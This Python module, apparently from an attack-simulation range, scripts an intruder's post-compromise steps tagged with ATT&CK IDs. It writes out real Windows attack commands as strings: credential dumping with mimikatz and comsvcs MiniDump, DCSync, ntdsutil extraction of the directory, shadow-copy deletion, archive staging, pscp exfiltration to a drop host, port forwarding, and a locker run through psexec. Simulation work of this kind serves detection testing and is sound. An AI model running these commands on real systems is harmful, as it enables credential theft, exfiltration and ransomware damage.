"""What is done on a host, at the desktop that was reached last."""

from __future__ import annotations

from countersign.range.attacks.player import (
    AGREED,
    DROP,
    IN_CHARACTER,
    NOISY,
    OFF_THE_LAND,
    STAGE,
    Player,
)
from countersign.range.attacks.step import TO, Options, step
from countersign.range.attacks.steps.ways_on import arrive
from countersign.range.plan.brokers import DOWNLOAD, DOWNLOADED, TOOLS
from countersign.range.plan.commands import ANYBODYS, POWERSHELL, S32
from countersign.range.plan.deeds import LOGS, SECURITY_LOG
from countersign.range.plan.errands import DIAGNOSIS, pack, send
from countersign.range.plan.places import Seat
from countersign.range.plan.working import from_afar
from countersign.range.streams.base import SITES

LOOKS = DIAGNOSIS[:5]
"""What is asked without any care; with some, whatever else anybody asks."""
DUMPERS = (
    rf"{S32}\rundll32.exe {S32}\comsvcs.dll, MiniDump 724 C:\Temp\w3wp.dmp full",
    rf"{S32}\taskmgr.exe /7",
)
"""Programs that are there anyway and write another's memory to a file."""
COMES_AGAIN, CLEARED, SENT = 0.5, 0.4, 0.6
"""How often another account gets a desktop of its own, how often somebody who is not noisy clears a log, and how often what is
to be installed is sent by remote support, not fetched."""
DELETED = rf"{S32}\vssadmin.exe delete shadows /all /quiet"
REMOVED = (
    DELETED,
    rf'{POWERSHELL} -NoProfile -Command "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"',
    rf"{S32}\sc.exe config VSS start= disabled",
)
STARVED = (rf"{S32}\vssadmin.exe resize shadowstorage /for=D: /on=D: /maxsize=401MB", *REMOVED[1:])
"""Shadow copies go when there is no room for them."""
PACKS = "T1560.001 T1074.001"
ENCRYPTED = ("app", "file", "sql", "web")


@step("look_around", " ".join(dict.fromkeys(technique for _, technique in DIAGNOSIS)))
def look_around(p: Player, _: Options) -> None:
    """Who am I, who else is there, what is near."""
    rng = p.acts.rng
    looks = LOOKS if p.care == NOISY else rng.sample(DIAGNOSIS, rng.randrange(1, 3))
    for command, technique in looks:
        p.pause(8, 45)
        p.type(command, technique)


@step("dump_credentials", "T1003.001 T1552.001")
def dump_credentials(p: Player, _: Options) -> None:
    """Credentials out of memory; with care a password in a script on a share."""
    if p.care >= AGREED:
        # which leaves no more than the script's reading
        host, paths = p.host("file"), [("scripts\\check-4.ps1", False), ("scripts\\check-12.ps1", False)]
        cause = p.cause("T1552.001")
        p.acts.smb(p.at.inside, host, p.person.account, "Install", paths, cause=cause)
    else:
        command = p.either(
            r"C:\PerfLogs\mimikatz.exe sekurlsa::logonpasswords exit", p.acts.rng.choice(DUMPERS)
        )
        p.acts.dump(p.at.seat, command, p.cause("T1003.001"))
    p.pause(60, 400)


@step("switch_credential", "T1078.002", "to=administrator|service")
def switch_credential(p: Player, options: Options) -> None:
    """From here on with another account: an administrator's, or that of the provider's service.

    With some care as often by a desktop of that account's own as by giving its credentials each time.
    """
    if options.get("to") == "service" and p.provider.services:
        p.account = p.provider.services[0].account
    elif options.get("to") == "service":
        p.account = p.estate.administrators[0].account
    else:
        p.account = p.estate.administrators[p.acts.rng.randrange(len(p.estate.administrators))].account
    if p.care > NOISY and p.place is not None and p.acts.rng.random() < COMES_AGAIN:
        p.pause()
        arrive(p, p.place, p.at.host, "T1078.002 T1021.001")


@step("kerberoast", "T1558.003")
def kerberoast(p: Player, _: Options) -> None:
    """Weak tickets for accounts of services."""
    count = {NOISY: 40, OFF_THE_LAND: 10, AGREED: 4, IN_CHARACTER: 2}[p.care]
    seat = p.at.seat
    p.acts.weak_tickets(
        p.at.inside, Seat(seat.host, p.who, seat.session, seat.hop), count, p.cause("T1558.003")
    )
    p.pause()


@step("dcsync", "T1003.006")
def dcsync(p: Player, _: Options) -> None:
    """The directory's secrets, as if from one controller to another."""
    controller = p.estate.hosts[p.at.host.controller]
    tool = rf'{STAGE[p.care]}\m64.exe "lsadump::dcsync /all /csv" exit'
    command = p.either(
        tool, f"{POWERSHELL} -NoProfile -Command Get-ADReplAccount -All -Server {controller.name}"
    )
    p.acts.replicate(p.at.inside, controller, p.who, p.cause("T1003.006"), command=command)
    p.pause()


@step("add_account", "T1136.002 T1098", "group")
def add_account(p: Player, options: Options) -> None:
    """An account of one's own, in a group that matters."""
    controller = p.estate.hosts[p.at.host.controller]
    new = p.either("support_388945a0", f"n.joiner{p.acts.rng.randrange(900)}")
    group = str(options.get("group", "Domain Admins"))
    p.acts.new_account_on(p.at.inside, controller, p.who, new, group, p.cause("T1136.002 T1098"))
    p.pause()


@step("stage_archive", PACKS)
def stage_archive(p: Player, _: Options) -> None:
    """What was gathered, packed."""
    stage, host = STAGE[p.care], p.at.host
    if p.care > NOISY:
        pack(p.acts, p.at, lambda command: p.type(command, PACKS), p.cause(PACKS))
        return
    command = rf"{stage}\rar.exe a -r -m1 -hpQz71kkd -v200m {stage}\s.rar C:\Users"
    number = p.type(command, PACKS)
    p.acts.wait(30, 90)
    p.acts.still()
    image = command.partition(".exe")[0] + ".exe"
    p.acts.created(host, p.who, image, number, rf"{stage}\s.part01.rar", p.at.hop)
    p.acts.done()


@step("copy_out", "T1048.002 T1567", "megabytes")
def copy_out(p: Player, options: Options) -> None:
    """What was packed leaves the estate."""
    size = int(str(options.get("megabytes", 800))) * 1_000_000
    if p.care >= IN_CHARACTER:
        # through the desktop's own connection, as files are fetched over a redirected drive
        text = f"{size} bytes over the remote desktop"
        p.acts.deed(p.at.hop, p.at.host.name, "network", text, p.cause("T1048.002"))
        p.acts.done()
        p.acts.wait(600, 2400)
        return
    # to a server of the intruder's own, or to anybody's web service
    cause = p.cause("T1048.002" if p.care == NOISY else "T1567")
    if p.care == NOISY:
        noisy = rf"C:\PerfLogs\pscp.exe -P 443 -batch C:\PerfLogs\s.part01.rar w@{DROP}:/in/"
        p.acts.sent(p.at, DROP, size, noisy, cause)
    else:
        send(p.acts, p.at, DROP if p.care < AGREED else SITES[3][1].decode(), size, cause)
    p.pause()


@step("beacon", "T1071.001", "hours")
def beacon(p: Player, options: Options) -> None:
    """An implant that calls home."""
    period = 60.0 if p.care < AGREED else 600.0
    times = max(3, int(float(str(options.get("hours", 1))) * 3600 / period))
    address = DROP if p.care < AGREED else SITES[4][1].decode()
    p.acts.beacon(p.at.host, p.at.hop, address, min(times, 400), period, p.cause("T1071.001"))


@step("clear_log", "T1070.001")
def clear_log(p: Player, _: Options) -> None:
    """The Security log is cleared, with some care one of those that tell of it, or none; with more none, for that is looked at."""
    if p.care == NOISY or (p.care == OFF_THE_LAND and p.acts.rng.random() < CLEARED):
        log = SECURITY_LOG if p.care == NOISY else p.acts.rng.choice(LOGS)
        p.acts.clear_log(p.at.seat, log, p.cause("T1070.001"))
        p.pause()


@step("stop_sensor", "T1562.001")
def stop_sensor(p: Player, _: Options) -> None:
    """A security product's service is stopped."""
    p.acts.stop_sensor(p.at.seat, p.cause("T1562.001"))
    p.pause()


@step("remove_backups", "T1490", TO)
def remove_backups(p: Player, options: Options) -> None:
    """Shadow copies are deleted."""
    host = p.host(options.get("to") or "file")
    if p.care == NOISY:
        p.acts.wmi(p.at.inside, host, p.who, [DELETED], p.cause("T1490"))
    else:
        command = p.acts.rng.choice(REMOVED if p.care < AGREED else STARVED)
        p.by_any(host, [command], "T1490")


@step("encrypt", "T1486", "hosts")
def encrypt(p: Player, options: Options) -> None:
    """The locker on host after host."""
    hosts, rng = int(str(options.get("hosts", 5))), p.acts.rng
    # with care as many as come to a package at a time, or as the person comes to in a day
    hosts = min(hosts, {AGREED: 5, IN_CHARACTER: 3}.get(p.care, hosts))
    # with care the locker is a package, which is how software comes to hosts anyway
    package, tool = rng.choice(ANYBODYS), from_afar(rng, p.person)
    for _ in range(hosts):
        host, cause = p.host("app" if p.care == NOISY else rng.choice(ENCRYPTED)), p.cause("T1486")
        if p.care == NOISY:
            p.acts.psexec(p.at.inside, host, p.who, [r"C:\PerfLogs\locker.exe -all"], cause=cause)
        elif not p.in_character(host, "T1486"):
            p.by_any(host, [package], "T1486", tool)


@step("install_remote_tool", "T1219", "tool=" + "|".join(TOOLS))
def install_remote_tool(p: Player, options: Options) -> None:
    """A remote-support tool of the intruder's own: AnyDesk, Atera, ScreenConnect; with care the one that is in use here.

    With care it is run where it was put, if it can be, for an installed one leaves a service.
    """
    acts = p.acts
    tool = acts.in_use() if p.care >= AGREED else str(options.get("tool", "anydesk"))
    setup = TOOLS[tool].file
    if p.support is not None and p.remote and acts.rng.random() < SENT:
        acts.send(p.support, setup)
    elif p.care > NOISY and acts.rng.random() < DOWNLOADED:
        p.type(DOWNLOAD.format(setup), "T1219")
    if p.care >= AGREED and TOOLS[tool].portable:
        acts.run_portable(p.at.seat, tool, p.cause("T1219"))
    else:
        acts.install(p.at.seat, tool, p.cause("T1219"))
    p.pause()


@step("dump_directory", "T1003.003")
def dump_directory(p: Player, _: Options) -> None:
    """The directory's file, out of a shadow copy on a controller."""
    controller = p.estate.hosts[p.at.host.controller]
    if p.care >= IN_CHARACTER:
        p.acts.smb(
            p.at.inside, controller, p.who, "C$", [("Temp\\readme.txt", True)], cause=p.cause("T1003.003")
        )
    elif p.care == NOISY:
        noisy = rf'{S32}\cmd.exe /c {S32}\ntdsutil.exe "ac i ntds" ifm "create full C:\Windows\Temp\pro" q q'
        p.acts.wmi(p.at.inside, controller, p.who, [noisy], p.cause("T1003.003"))
    else:
        p.by_any(controller, [rf"{S32}\vssadmin.exe create shadow /for=C:"], "T1003.003")
    p.pause()


@step("forward_port", "T1090.001")
def forward_port(p: Player, _: Options) -> None:
    """A port of the host leads on to another."""
    noisy = rf"{S32}\netsh.exe interface portproxy add v4tov4 listenport=9999 listenaddress=0.0.0.0 connectport=8443 connectaddress={DROP}"
    p.type(p.either(noisy, rf"{S32}\NETSTAT.EXE -ano"), "T1090.001")
    p.pause()


STEPS = (
    look_around, dump_credentials, switch_credential, kerberoast, dcsync, dump_directory, add_account, stage_archive, copy_out,
    beacon, forward_port, install_remote_tool, clear_log, stop_sensor, remove_backups, encrypt,
)  # fmt: skip
